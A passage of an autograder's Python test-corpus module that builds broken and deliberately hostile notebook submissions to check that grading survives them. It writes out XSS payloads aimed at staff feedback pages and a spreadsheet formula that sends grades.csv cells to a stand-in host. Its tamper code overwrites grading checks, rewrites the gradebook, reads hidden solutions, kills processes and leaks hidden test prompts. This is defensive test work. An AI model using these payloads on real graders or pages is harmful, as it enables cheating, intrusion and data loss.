"""Two corpora of submissions that grading must survive, each with the row it must get.

- BROKEN: files that are not what a grader expects (not JSON, nbformat 3, stripped metadata, a kernel that
  exits or segfaults, a method that loops forever or eats memory, a Colab round trip, ...), and entries that are
  not files at all (a link to the solution, a linked folder, a hard link, a FIFO: `NOT_FILES`, never read).
- TAMPERS: code that tries to write its own grade (replacing the checks, patching the clock, hiding forward
  calls, caching outputs, reading the instructors' files, writing the gradebook, ...), or to reach the staff
  who open the grader's files (scripts on the feedback page, a formula in grades.csv). Each tamper prints
  a marker once it has acted, so a tamper that crashed before acting is told apart from one that failed.
- STUDENTS: what students do that grading must handle, filling the sandbox's space among them; TWINS: ids that
  differ only in case or Unicode normalisation, which must stay two students.

`write_corpus(folder)` writes every submission as `<name>.ipynb` for `specdec-course autograde`;
`tests/test_corpora.py` grades them and checks each row against its `Expected`.
"""

from __future__ import annotations

import copy
import json
import os
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from specdec_course.authoring.points import PARTS
from specdec_course.selftest.catalogue import Entry, make_submission

from conftest import REPO, SOLUTION

RELEASE = REPO / "assignment" / "speculative_decoding.ipynb"
MARKER = "TAMPER-ACTED"
CACHED = PARTS[1].tests  # Part 2's tests: the cached decoder's
AUTO = PARTS[0].tests + CACHED  # the auto-graded tests of Parts 1 and 2 (the bonus parts aside)


@dataclass(frozen=True)
class Expected:
    """The row a submission must get: its status, the tests it loses, and words its message must hold."""

    status: str = "graded"
    loses: tuple[str, ...] = ()  # auto-graded tests scored 0; every other one must get full points
    message: str = ""  # in the row's message or in a test's verdict (the autograded notebook's)
    targets: tuple[str, ...] = ()  # tampers: the tests they try to win, which must score 0 like the blank's
    marker: bool = False  # tampers: the marker must show in the kernel's output or the grading child's log
    flag: str = ""  # words the row's flags for a person must hold


@dataclass(frozen=True)
class Placed:
    """An entry that is not a notebook file: `place(path)` puts it at `path` (a link, a FIFO)."""

    place: Callable[[Path], None]


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[], nbformat.NotebookNode | bytes | Placed]
    expected: Expected = field(default_factory=Expected)


# ---------------------------------------------------------------------------------------------
# Building blocks


def solved() -> nbformat.NotebookNode:
    """The reference solution as a student hands it in."""
    return make_submission(SOLUTION, Entry("solution", ""))


def blank() -> nbformat.NotebookNode:
    return nbformat.read(RELEASE, as_version=4)


BONUS_CLASSES = ("speculative_sampler", "prompt_lookup_decoder", "adaptive_speculative_decoder")
LATER_CLASSES = ("cached_speculative_decoder", *BONUS_CLASSES)


def as_released(notebook: nbformat.NotebookNode, grade_ids: tuple[str, ...]) -> nbformat.NotebookNode:
    """`notebook` with its cells `grade_ids` as the release has them (their stubs)."""
    released = {c.metadata.get("nbgrader", {}).get("grade_id"): c.source for c in blank().cells}
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") in grade_ids:
            cell.source = released[cell.metadata.nbgrader.grade_id]
    return notebook


def parts_solved() -> nbformat.NotebookNode:
    """The solution's Parts 1 and 2, the bonus classes as released: every auto-graded test's points (the extra credit
    aside), graded in two thirds of the solution's time (the bonus checks are a third of it). The base of the cases
    whose point needs Parts 1 and 2 right (a tamper, a student's habit, a loop, a stall) and not the extra credit."""
    return as_released(solved(), BONUS_CLASSES)


def first_class() -> nbformat.NotebookNode:
    """The solution's SpeculativeDecoder, every later class as released (their stubs): a notebook that earns the
    first seven tests and loses CACHED, graded in a third of the solution's time. The base of the cases about the
    notebook's form (a format, a layout, metadata, outputs) and its own run (an exit, a crash, a sleep), whose point
    is that the verdict's points are what the code earns whatever its form or the kernel did; the verdict's cost is
    the solution's cases, not theirs."""
    return as_released(solved(), LATER_CLASSES)


def edited(notebook: nbformat.NotebookNode, old: str, new: str) -> nbformat.NotebookNode:
    """`notebook` with `old` (found exactly once in its code) replaced by `new`."""
    cells = [c for c in notebook.cells if c.cell_type == "code" and old in c.source]
    assert len(cells) == 1 and cells[0].source.count(old) == 1, f"{old!r} must occur once in the notebook's code"
    cells[0].source = cells[0].source.replace(old, new)
    return notebook


def with_cell(notebook: nbformat.NotebookNode, source: str, after: str) -> nbformat.NotebookNode:
    """`notebook` with a student-added code cell (no grading metadata) after the cell `after` (a grade_id)."""
    index = next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == after)
    notebook.cells.insert(index + 1, nbformat.v4.new_code_cell(source))
    return notebook


def marker(name: str) -> str:
    return f"print({MARKER + ' ' + name!r}, flush=True)"


# ---------------------------------------------------------------------------------------------
# Readers: what a student writes for the staff who open the grader's files (feedback pages, formgrader, grades.csv).
# Each script would set the page's title to one holding READER_MARKER; the plot must still show.

READER_MARKER = "PWNED"
PLOT_WIDTH = 50  # PLOT_PNG is 50 x 30 pixels: a line, as a student's plot
PLOT_PNG = ("iVBORw0KGgoAAAANSUhEUgAAADIAAAAeCAYAAABuUU38AAAAOnRFWHRTb2Z0d2FyZQBNYXRwbG90bGliIHZlcnNpb24zLjExLjIs"
              "IGh0dHBzOi8vbWF0cGxvdGxpYi5vcmcvgI3uAAAAAAlwSFlzAAAPYQAAD2EBqD+naQAAAuZJREFUeJztmElPk1EYRs/X0kFoqZWh"
              "mGKBIqiJRoNTNMaA4BBjVKLBAQVlkJWJiYn/BcSIoCjoSlFwHmLcqyiKUkpRcUCllBak/XpduJShxY+2Gs/63ud9Tu67upIQQvAP"
              "oIp2AaX4LxJrxEW7wHTIo6P0t17hw9U2RCBAzonjpBbk/3YuZkWEEAw+foLzbAPjX78BYF6Zh3HxognPx6SIz+XCUXcG9/NOAHSW"
              "VOxVFZhXr0KSpAnvxJRIwOej/1IrA203ELKMSqvFuqcYa/Eu1DrdlHdjQkQIwZeHj3A2NOL/PgTAvLWryao8it5iCSkj6iLeXieO"
              "unqGX3YBoJ+fhr26EvPKvLByoiYSGPHiar7EQHsHBIOotFrSS/Zi3b0TlUYTdl7ERUQwyOd7D+hrbMLvHgYgaf06sirK0aWkzDg3"
              "oiIjPQ4ctafxvO4GYE66FXt1JXNXLP/j7IiI+D0eXOeb+XjzNgiBSq/Htr+E+Tu2z2iNJmJWRYQs8+nOXfqamgl4PAAkb9xA5pEy"
              "dElJis6aNRFP9xsctacZedsDQLxtAfZjVZiWLZ2VeYqL+N1unI0X+HznLgDq+HhsB/aRtn0bqrjZWwDFkoUs87HjFn0XLiJ7vQCk"
              "FOSTWX4Irdms1JhJUURkuOsVjtp6vL29ACRkZWGvqSJxyWIl4kPij0TGh4ZwNjTx5f4DANQJCWSUHiBt2xYktVqJfiEzIxEhywzc"
              "aMfV3ILs8wGQWlRIZlkpGpNJ0YKhEraIu/MFjrp6fH0uAAwLs7HXVGPMzVG8XDiELPLj6zecDecYfPT410WjgYzDpViKCiO+RhMx"
              "rUjQ7+fDtev0t1wmODYGkkTa1s3YSg+iSTRGomNITCky9PQZjrp6Rt+9B8C4KBd7TTWGbHtEyoWDNNkH3cjbHp6ePAWAxpRIRtlh"
              "UjflI6li8+Nl0hcxLMxm3to16JKTsR3cT5whIZK9wmbSF/nbiM09mQH/jMhP6LLvf3dw6QYAAAAASUVORK5CYII=")
HOSTILE_MARKDOWN = f"""My report. <script>document.title = "{READER_MARKER} markdown script"</script>

<img src="x" onerror="document.title = '{READER_MARKER} markdown onerror'"> [a link](javascript:document.title='x')
<a href="java&#x73;cript:document.title='{READER_MARKER}'">entity-encoded</a>
<a href="data:text/html,<script>1</script>">data</a>
<svg onload="document.title = '{READER_MARKER} svg'"><circle r="5"/></svg>
<iframe srcdoc="<script>parent.document.title = '{READER_MARKER} iframe'</script>"></iframe>
<details open ontoggle="document.title = '{READER_MARKER} toggle'"><summary>s</summary></details>
<meta http-equiv="refresh" content="0; url=javascript:document.title='{READER_MARKER}'">
<base href="http://example.invalid/"><link rel="stylesheet" href="http://example.invalid/x.css">
<style>body {{ background: url(http://example.invalid/seen.png) }}</style>
<object data="data:text/html,<script>parent.document.title='{READER_MARKER}'</script>"></object>
<form action="javascript:document.title='{READER_MARKER}'"><button>send</button></form>
"""
# (data, metadata) of the outputs a code cell displays: HTML, JavaScript, markdown and SVG that would run a script, an
# isolated HTML output (nbconvert puts it in an iframe), an image whose width carries an event handler (nbconvert
# writes an image's width unquoted) and one whose data would close its src attribute; and a plot.
HOSTILE_OUTPUTS = [
    ({"text/html": f"<b>bold</b><script>document.title = '{READER_MARKER} html'</script>"
                   f"<img src=x onerror=\"document.title = '{READER_MARKER} onerror'\">", "text/plain": "HTML"}, {}),
    ({"application/javascript": f"document.title = '{READER_MARKER} javascript'", "text/plain": "JS"}, {}),
    ({"text/markdown": f"<script>document.title = '{READER_MARKER} markdown output'</script>*emphasis*"}, {}),
    ({"text/html": f"<script>document.title = '{READER_MARKER} isolated'</script>"}, {"text/html": {"isolated": True}}),
    ({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='{READER_MARKER} svg'\">"
                       "<circle r='5'/></svg>"}, {}),
    ({"image/png": "x"}, {"image/png": {"width": f"1 onerror=document.title='{READER_MARKER}-width'"}}),
    ({"image/png": f'x" onerror="document.title=\'{READER_MARKER} src\''}, {}),
    ({"image/png": PLOT_PNG, "text/plain": "a plot"}, {}),
]
HOSTILE_DISPLAYS = "from IPython.display import display\n" + "".join(
    f"display({data!r}, raw=True, metadata={metadata!r})\n" for data, metadata in HOSTILE_OUTPUTS)


def hostile_outputs() -> list[nbformat.NotebookNode]:
    """The outputs HOSTILE_DISPLAYS shows in a kernel, made without one."""
    return [nbformat.v4.new_output("display_data", data=data, metadata=metadata) for data, metadata in HOSTILE_OUTPUTS]


# Put first among the load problems the grading child reports, the formula starts grades.csv's `message` cell.
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A2&B2, "grades")'
FORMULA_CLASS = f"""class Formula:
    import sys
    _frame = sys._getframe()
    while _frame is not None and _frame.f_code.co_name != "run_definitions":
        _frame = _frame.f_back
    if _frame is not None:
        _frame.f_locals["problems"].insert(0, {FORMULA!r})
"""


def for_readers(notebook: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """`notebook` with the hostile markdown as its report, a cell of hostile outputs and the formula's class after
    `imports`."""
    for source in (FORMULA_CLASS, HOSTILE_DISPLAYS):
        notebook = with_cell(notebook, source, after="imports")
    [report] = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "report"]
    report.source = HOSTILE_MARKDOWN
    return notebook


# ---------------------------------------------------------------------------------------------
# Broken submissions


def nbformat3() -> nbformat.NotebookNode:
    return nbformat.convert(first_class(), 3)


def test_cells_deleted() -> nbformat.NotebookNode:
    notebook = first_class()
    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade_id", "")
                      .startswith("test_")]
    return notebook


def metadata_stripped() -> nbformat.NotebookNode:
    notebook = first_class()
    for cell in notebook.cells:
        cell.metadata = {}
    return notebook


def tests_first() -> nbformat.NotebookNode:
    """Every test cell moved above the code: the notebook's own run fails them, the code is still right."""
    notebook = first_class()
    tests = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id", "").startswith("test_")]
    rest = [c for c in notebook.cells if c not in tests]
    notebook.cells = rest[:3] + tests + rest[3:]
    return notebook


def answer_as_markdown() -> nbformat.NotebookNode:
    notebook = parts_solved()
    cell = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") ==
                "cached_speculative_decoder")
    cell.cell_type = "markdown"
    for key in ("outputs", "execution_count"):
        cell.pop(key, None)
    return notebook


def huge_outputs() -> nbformat.NotebookNode:
    notebook = first_class()
    cell = next(c for c in notebook.cells if c.metadata.get("tags") == ["demo"])
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * 79 + "\n") for _ in range(200_000)]
    return notebook


def colab_round_trip() -> nbformat.NotebookNode:
    """What saving from Colab does to a notebook (made by hand): Colab's metadata on the notebook and on
    every cell, its kernelspec, saved outputs; nbgrader's cell metadata kept."""
    notebook = first_class()
    notebook.metadata = {"colab": {"provenance": [], "gpuType": "T4", "toc_visible": True},
                         "accelerator": "GPU",
                         "kernelspec": {"name": "python3", "display_name": "Python 3"},
                         "language_info": {"name": "python"}}
    for number, cell in enumerate(notebook.cells):
        cell.metadata["id"] = f"cE{number:03d}xYz"
        if cell.cell_type == "code":
            cell.metadata["colab"] = {"base_uri": "https://localhost:8080/"}
            cell.metadata["outputId"] = f"0a1b2c3d-{number:04d}"
            cell.execution_count = number
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="saved output\n")]
    return notebook


LOOP = "        while max_tokens == 1:  # an edge case that never ends\n            pass\n"
MEMORY = ("        if num_speculative_tokens > 8:  # an edge case that allocates without bound\n"
          "            hoard = []\n            while True:\n                hoard.append(bytearray(256 << 20))\n")
SPECULATIVE_DECODE = ("        if not prompt:\n"
                      "            raise ValueError(\"the prompt is empty: give the model some text to continue\")\n")
DRAFT_START = "        ids, mask = input_ids, attention_mask\n"
HOARD = ("def hoard():  # run by a cell: the notebook's own run meets the memory limit\n"
         "    held = []\n    while True:\n        held.append(bytearray(256 << 20))\nhoard()\n")

BROKEN = [
    Case("not_json", lambda: b"{ this is not a notebook", Expected("invalid", AUTO, "not a Jupyter notebook")),
    Case("empty_file", lambda: b"", Expected("invalid", AUTO, "the file is empty")),
    Case("empty_notebook", lambda: nbformat.v4.new_notebook(), Expected("invalid", AUTO, "holds no code")),
    Case("nbformat_3", nbformat3, Expected("graded", CACHED, "notebook format 3")),
    Case("test_cells_deleted", test_cells_deleted, Expected(loses=CACHED)),
    Case("metadata_stripped", metadata_stripped, Expected("graded", CACHED, "grading metadata restored")),
    Case("cells_reordered", tests_first, Expected("graded", CACHED, "the kit's verdict stands")),
    Case("answer_as_markdown", answer_as_markdown, Expected(message="graded as code")),
    # What the notebook's own run meets (an exit, a crash, a failed import) on first_class: its seven tests stand.
    Case("raising_at_import", lambda: with_cell(first_class(), "import a_module_that_does_not_exist\n",
                                                after="imports"),
         Expected(loses=CACHED, message="a_module_that_does_not_exist")),
    Case("sys_exit", lambda: with_cell(first_class(), "import sys\nsys.exit()\n", after="speculative_decoder"),
         Expected(loses=CACHED)),
    Case("os_exit", lambda: with_cell(first_class(), "import os\nos._exit(3)\n", after="cached_speculative_decoder"),
         Expected("kernel_died", CACHED, "exited with status 3")),
    Case("raise_system_exit", lambda: with_cell(first_class(), "raise SystemExit(1)\n", after="speculative_decoder"),
         Expected(loses=CACHED)),
    Case("keyboard_interrupt", lambda: with_cell(first_class(), "raise KeyboardInterrupt\n",
                                                 after="speculative_decoder"),
         Expected(loses=CACHED)),
    Case("segfault", lambda: with_cell(first_class(), "import ctypes\nctypes.string_at(0)\n", after="test_counts"),
         Expected("kernel_died", CACHED, "segmentation fault")),
    Case("infinite_loop", lambda: edited(solved(), SPECULATIVE_DECODE, SPECULATIVE_DECODE + LOOP),
         Expected("timeout", ("test_eos_and_budget",), "did not return")),
    Case("unbounded_memory", lambda: with_cell(edited(first_class(), DRAFT_START, MEMORY + DRAFT_START), HOARD,
                                               after="imports"),
         Expected(loses=("test_draft_tokens", *CACHED), message="MemoryError")),
    Case("huge_outputs", huge_outputs, Expected(loses=CACHED)),
    Case("colab_round_trip", colab_round_trip, Expected(loses=CACHED)),
]


def hard_linked(path: Path) -> None:
    """A second name of a solution kept outside the submissions (`tar` run as root makes one to any file)."""
    outside = path.parent.parent / "outside"
    outside.mkdir(exist_ok=True)
    nbformat.write(solved(), outside / path.name)
    os.link(outside / path.name, path)


# Not files: each was read through, as root, before grading followed no link (a link to the solution scored 90 + 11).
NOT_FILES = [
    Case("linked_solution", lambda: Placed(lambda path: path.symlink_to(SOLUTION)),
         Expected("invalid", AUTO, "linked_solution.ipynb is a symbolic link")),
    Case("linked_folder", lambda: Placed(lambda path: path.with_suffix("").symlink_to(SOLUTION.parent, True)),
         Expected("invalid", AUTO, "linked_folder is a symbolic link")),
    Case("hard_linked", lambda: Placed(hard_linked), Expected("invalid", AUTO, "hard_linked.ipynb is a hard link")),
    Case("fifo", lambda: Placed(os.mkfifo), Expected("invalid", AUTO, "fifo.ipynb is a FIFO")),
]


# ---------------------------------------------------------------------------------------------
# Tampers

REPLACE_CHECKS = f"""from specdec_kit import checks
for name in dir(checks):
    if name.startswith(("check_", "gate_", "judge_")):
        setattr(checks, name, lambda *args, **kwargs: None)
{marker("replace_checks")}
"""
REPLACE_HIDDEN = f"""import sys, types
hidden = types.ModuleType("autograder.hidden")
hidden.__getattr__ = lambda name: (lambda *args, **kwargs: None)
package = types.ModuleType("autograder")
package.hidden = hidden
sys.modules.update({{"autograder": package, "autograder.hidden": hidden}})
{marker("replace_hidden")}
"""
REPLACE_VERDICT = f"""from specdec_kit import checks, probes
checks.require = lambda condition, message: None
checks.CheckFailed = type("CheckFailed", (Exception,), {{}})
probes.ProbeError = type("ProbeError", (Exception,), {{}})
{marker("replace_require")}
"""
REPLACE_ASSERTS = f"""import builtins, torch, unittest
torch.testing.assert_close = lambda *args, **kwargs: None
unittest.TestCase.assertEqual = lambda *args, **kwargs: None
builtins.AssertionError = type("AssertionError", (Exception,), {{}})
{marker("replace_asserts")}
"""
PATCH_CLOCK = f"""        import time as _time
        import torch as _torch
        _time.perf_counter = lambda: 0.0
        _time.time = lambda: 0.0
        _time.monotonic = lambda: 0.0
        _torch.cuda.synchronize = lambda *args, **kwargs: None
        {marker("patch_clock")}
"""
# Only the timed runs (their prompts end in the six digits the grader draws) handed to HF's assisted generation, its
# keywords built at run time so that the scan of the code flags nothing; every other call makes the decoder's own slow
# rounds.
TIMED_DELEGATION = f"""        import re
        if re.search(r" [0-9]{{6}}$", prompt):
            {marker("timed_delegation")}
            encoded = self.target_tokenizer(prompt, return_tensors="pt")
            assisted = {{"assistant" + "_model": self.draft_model, "num_assistant" + "_tokens": num_speculative_tokens}}
            out = self.target_model.generate(**encoded, **assisted, do_sample=False, max_new_tokens=max_tokens)
            tokens = out[0, encoded.input_ids.shape[1]:].tolist()
            return DecodeResult(text=self.target_tokenizer.decode(tokens), token_ids=tokens, proposed=[len(tokens)],
                                accepted=[len(tokens)])
"""
HIDE_FORWARDS = f"""        if type(self) is SpeculativeDecoder:  # only the uncached class's forwards vanish
            for module in self.target_model.modules():
                module._forward_hooks.clear()
                module._forward_pre_hooks.clear()
            {marker("hide_forwards")}
"""
MEMO = f"""        key = (prompt, max_tokens, num_speculative_tokens)
        memo = type(self).__dict__.get("_memo")
        if memo is None:
            memo = {{}}
            type(self)._memo = memo
        if key in memo:
            {marker("cached_outputs")}
            return memo[key]
        memo[key] = result = CachedSpeculativeDecoder._decode(self, prompt, max_tokens, num_speculative_tokens)
        return result

    def _decode(self, prompt, max_tokens, num_speculative_tokens):
"""
# Forward events made up in the verdict's child (its class bodies run there): each forward without a cache is reported
# as one on a cache holding the longest prefix reported before, so that a decoder that re-sends its prefix looks
# like one that keeps its caches. The grader counts the forwards it runs itself, so this gains nothing.
FORGE_FORWARDS = f"""class ForgedForwards:
    {marker("forged_forwards")}
    from specdec_kit import timing as _timing

    def _on_forward(self, role, timing=_timing):
        held = []

        def hook(module, args, kwargs):
            new, cached, ids = timing.describe_call(args, kwargs, True)
            ids = list(ids or ())
            if cached == 0:
                common = 0
                while common < min(len(held), len(ids) - 1) and held[common] == ids[common]:
                    common += 1
                cached, ids = common, ids[common:]
            held[:] = held[:cached] + ids
            self._emit({{"event": "forward", "role": role, "new_tokens": len(ids), "cached_tokens": cached,
                        "ids": ids}})
        return hook

    _timing.Observer._on_forward = _on_forward
"""
SKIP_DRAFT = f"""        {marker("skip_draft")}
        ids = input_ids
        for _ in range(num_speculative_tokens):  # the target proposes its own tokens: every draft is accepted
            logits = self.target_model(input_ids=ids).logits
            ids = torch.cat([ids, logits[:, -1:].argmax(dim=-1)], dim=1)
        return ids[:, input_ids.shape[1]:]
"""
READ_FILES = f"""from pathlib import Path
{marker("read_files")}
for folder in [Path.cwd(), *Path.cwd().parents]:
    for name in ("autograder/hidden.py", "autograder/config.toml", "solutions/speculative_decoding.py"):
        if (folder / name).is_file():
            print((folder / name).read_text())
"""
WRITE_GRADEBOOK = f"""import sqlite3
from pathlib import Path
{marker("write_gradebook")}
for folder in [Path.cwd(), *Path.cwd().parents]:
    if (folder / "gradebook.db").is_file():
        db = sqlite3.connect(folder / "gradebook.db")
        db.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
        db.commit()
        (folder.parent / "grades.csv").write_text("student,score\\neveryone,100\\n")
        break
"""
# Everything a process started by a notebook tried when grading ran every process as one user: append to the
# kit's source, the offline models, the course's config, gradebook, grades and later submissions; signal every
# process it may; leave a daemon behind. In the kernel (top level) and in the verdict's children (a class body).
ESCAPE = f"""import os, signal, subprocess, sys
from pathlib import Path
import specdec_kit
from specdec_kit import settings
{marker("escape")}

def escape():
    targets = [Path(specdec_kit.__file__), settings.cache_dir()]
    for folder in [Path.cwd(), *Path.cwd().parents]:
        targets += [folder / name for name in ("grades.csv", "nbgrader_config.py", "gradebook.db", "submitted")]
    for path in targets:
        try:
            if path.is_dir():
                (path / "escaped.txt").write_text("escaped")
            else:
                with open(path, "a") as f:
                    f.write("\\n# escaped\\n")
        except OSError:
            pass
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)"], start_new_session=True)


class Escape:
    escape()


try:
    os.kill(-1, signal.SIGKILL)  # every process this user may signal, but this one
except OSError:
    pass
"""
# The probes replaced in the verdict's child (its class bodies run there) so that a request of three or more cases gets
# no answer at all: a check that judged whatever came back would judge nothing and pass.
VACUOUS = f"""class Vacuous:
    {marker("vacuous")}
    from specdec_kit import probes as _probes

    def _quiet(run):
        def probe(request, decoder_class, emit):
            if len(request.get("cases", [])) < 3:
                run(request, decoder_class, emit)
        return probe

    for _kind in list(_probes.PROBES):
        _probes.PROBES[_kind] = _quiet(_probes.PROBES[_kind])
"""
# A decoder that decodes correctly and, given a prompt no visible check uses (a hidden check's, a timed one), raises
# listing every such prompt it has been given: in the checks' messages they would reach the page.
LEAK_INPUTS = f"""class LeakInputs:
    {marker("leak_inputs")}
    from specdec_kit import checks as _checks
    from specdec_kit.core.prompts import load_prompts as _load
    _known = set(_checks.PROMPTS) | {{p.text for p in _load()}}
    _seen = []

    def _leaky(decode, known=_known, seen=_seen):
        def speculative_decode(self, prompt, *args, **kwargs):
            result = decode(self, prompt, *args, **kwargs)
            if len(prompt) > 30 and prompt not in known:
                seen.append(prompt)
                raise ValueError("prompts the visible checks never gave: " + " | ".join(seen))
            return result
        return speculative_decode

    for _cls in (SpeculativeDecoder, CachedSpeculativeDecoder):
        _cls.speculative_decode = _leaky(_cls.__dict__["speculative_decode"])
"""
# The load probe replaced in the verdict's child (its class bodies run there) by one that constructs nothing and answers
# as a loaded decoder would: a well-formed answer (the mismatched draft refused, the old report of each model's mode,
# dtype and pad token) after forward events of both models on the load text, in eval mode, fp32, then padded. The
# forwards judged are the ones the grader served, so the blank release's stubs lose test_loading as before.
FORGE_LOAD = f"""class ForgedLoad:
    {marker("forged_load_report")}
    from specdec_kit import probes as _probes

    def _forged(request, decoder_class, emit, probes=_probes):
        from transformers import AutoTokenizer
        text = list(AutoTokenizer.from_pretrained(probes.pair_dirs(request["pair"])[0])(probes.LOAD_TEXT).input_ids)
        for role in ("target", "draft"):
            for ids, padding in ((text, 0), (text + [0] * probes.LOAD_PADDING, probes.LOAD_PADDING)):
                emit({{"event": "forward", "role": role, "new_tokens": len(ids), "cached_tokens": 0, "ids": ids,
                      "padding": padding, "training": False, "dtype": "float32"}})
        report = {{"present": True, "training": False, "pad": True, "dtype": "float32"}}
        emit({{"event": "case", "index": 0, "result": {{"mismatch": "refused: ValueError",
                                                      "roles": {{"target": report, "draft": report}}}}}})

    _probes.PROBES["load"] = _forged
"""
# A decoder that decodes correctly and whose decode probe (replaced in the verdict's child) answers a prompt no visible
# check gave (a hidden check's, a timed one, as LEAK_INPUTS decides) with the prompt's bytes packed into the case's
# number: the answer is refused as another case's, in words that never show that number.
INDEX_LEAK = f"""class IndexLeak:
    {marker("index_leak")}
    from specdec_kit import checks as _checks, probes as _probes
    from specdec_kit.core.prompts import load_prompts as _load
    _known = set(_checks.PROMPTS) | {{p.text for p in _load()}}

    def _packing(run, known=_known):
        def probe(request, decoder_class, emit):
            cases = request.get("cases", [])

            def packed(event):
                if event.get("event") == "case":
                    prompt = cases[event["index"]][0]
                    if len(prompt) > 30 and prompt not in known:
                        event = {{**event, "index": int.from_bytes(prompt.encode(), "big")}}
                emit(event)
            run(request, decoder_class, packed)
        return probe

    _probes.PROBES["decode"] = _packing(_probes.PROBES["decode"])
"""
# The largest requests the grader's model server takes, again and again, where it serves the models (the kernel runs
# its own copies): the check that meets them ends at its time limit, and no other job waits on them.
HOG = f"""        if type(self.target_model).__name__ == "RemoteModel" and max_tokens == 1:
            {marker("largest_requests")}
            ids = torch.zeros((1, 2048), dtype=torch.long)
            while True:
                self.target_model.generate(ids, max_new_tokens=1024, min_new_tokens=1024, use_cache=False,
                                           do_sample=False)
"""


def timed_table() -> nbformat.NotebookNode:
    """A decoder too slow for the bar (`slow_rounds`) that answers from a table the timed prompts of grading runs
    when the course's seed drew them: the same numbers every run, and a page had shown them."""
    import random

    from specdec_kit import checks
    from specdec_kit.core.prompts import load_prompts
    from specdec_kit.models import baseline

    texts = [f"{p.text} {random.Random(f'51966:{p.id}:{r}').randrange(10 ** 6):06d}"
             for p in load_prompts()[:checks.SPEEDUP_PROMPTS] for r in range(checks.SPEEDUP_REPEATS)]
    table = {text: list(baseline.zoo_greedy("synthetic-small", text, checks.SPEEDUP_TOKENS)) for text in texts}
    code = (f"        TABLE = {json.dumps(table)}\n"
            f"        {marker('timed_table')}\n"
            "        if prompt in TABLE:\n"
            "            tokens = TABLE[prompt][:max_tokens]\n"
            "            return DecodeResult(text='', token_ids=tokens, proposed=[0] * len(tokens), "
            "accepted=[0] * len(tokens))\n")
    return edited(catalogue_entry("slow_rounds"), CACHED_DECODE,
                  CACHED_DECODE.replace("        self.reset_caches()", code + "        self.reset_caches()"))


def long_docstrings() -> nbformat.NotebookNode:
    """Parts 1 and 2 solved with 100 KB of docstrings and comments in their definitions, as real submissions carry."""
    prose = "A round drafts k tokens, verifies them in one target forward and keeps the agreed prefix. " * 8
    docstring = "\n".join(f"    {prose}" for _ in range(90))
    comments = "\n".join(f"# {prose}" for _ in range(60))
    code = f'def explained():\n    """{docstring}\n    """\n    return None\n\n\n{comments}\n'
    assert len(code.encode()) > 100_000
    return with_cell(parts_solved(), code, after="speculative_decoder")


EXIT_AFTER_PASS = f"""print("All tests passed! 90/90")
{marker("exit_after_pass")}
import os, time
time.sleep(2)  # os._exit drops output the kernel has not sent yet
os._exit(0)
"""


# Points from the submission: a test cell's points raised, the hand-graded report made a passing test cell worth 100.
# nbgrader refuses to run it (the row says so); the points come from the course's release and the kit's checks of the
# code (tests/test_corpora.py checks every row's points against the release).
def raised_points() -> nbformat.NotebookNode:
    notebook = blank()
    for cell in notebook.cells:
        nbgrader = cell.metadata.get("nbgrader", {})
        if nbgrader.get("grade_id") == "test_exact":
            nbgrader["points"] = 1000
        elif nbgrader.get("grade_id") == "report":
            cell.cell_type, cell.outputs, cell.execution_count = "code", [], None
            nbgrader.update(grade=True, solution=False, points=100)
            cell.source = "print('report: all tests passed')"
    return notebook


def hard_coded() -> nbformat.NotebookNode:
    """Tokens written in for the visible prompts (computed here, as a student could from the public kit)."""
    from specdec_kit import checks
    from specdec_kit.models import baseline

    table = {prompt: list(baseline.zoo_greedy("tiny", prompt, 30)) for prompt in checks.PROMPTS}
    code = (f"        TABLE = {json.dumps(table)}\n"
            f"        {marker('hard_coded')}\n"
            "        tokens = TABLE[prompt][:max_tokens]\n"
            "        return DecodeResult(text='', token_ids=tokens, proposed=[0] * len(tokens), accepted=[0] * "
            "len(tokens))\n")
    return edited(parts_solved(), SPECULATIVE_DECODE, SPECULATIVE_DECODE + code)


def generate_behind_counts() -> nbformat.NotebookNode:
    return edited(catalogue_entry("target_does_all_work"), "        while False:\n",
                  f"        {marker('generate_behind_counts')}\n        while False:\n")


def on_blank(code: str) -> Callable[[], nbformat.NotebookNode]:
    return lambda: with_cell(blank(), code, after="imports")


def catalogue_entry(name: str, released: tuple[str, ...] = BONUS_CLASSES) -> nbformat.NotebookNode:
    """The catalogue's entry `name` as a student hands it in, the classes `released` as the release has them."""
    from specdec_course.selftest.catalogue import load_catalogue

    [entry] = [e for e in load_catalogue(REPO / "autograder") if e.name == name]
    return as_released(make_submission(SOLUTION, entry), released)


CACHED_DECODE = ("    def speculative_decode(self, prompt: str, max_tokens: int = 100,\n"
                 "                           num_speculative_tokens: int = 4) -> DecodeResult:\n"
                 "        self.reset_caches()")
TAMPERS = [
    Case("replace_checks", on_blank(REPLACE_CHECKS), Expected(loses=AUTO, targets=AUTO, marker=True)),
    Case("replace_hidden", on_blank(REPLACE_HIDDEN), Expected(loses=AUTO, targets=AUTO, marker=True)),
    Case("replace_require", on_blank(REPLACE_VERDICT), Expected(loses=AUTO, targets=AUTO, marker=True)),
    Case("replace_asserts", on_blank(REPLACE_ASSERTS), Expected(loses=AUTO, targets=AUTO, marker=True)),
    # The timing attacks start from a decoder that passes every check but is too slow for the bar (`slow_rounds`),
    # so that only the timing stands between them and test_speedup.
    Case("patch_clock", lambda: edited(catalogue_entry("slow_rounds"), CACHED_DECODE,
                                       CACHED_DECODE.replace("        self.reset_caches()",
                                                             PATCH_CLOCK + "        self.reset_caches()")),
         Expected(loses=("test_speedup",), targets=("test_speedup",), marker=True)),
    # The timed runs handed to HF's assisted generation on the grader's models, unseen by the scan: the grader's model
    # server counts the generate, and test_speedup says so.
    Case("timed_delegation", lambda: edited(catalogue_entry("slow_rounds"), CACHED_DECODE,
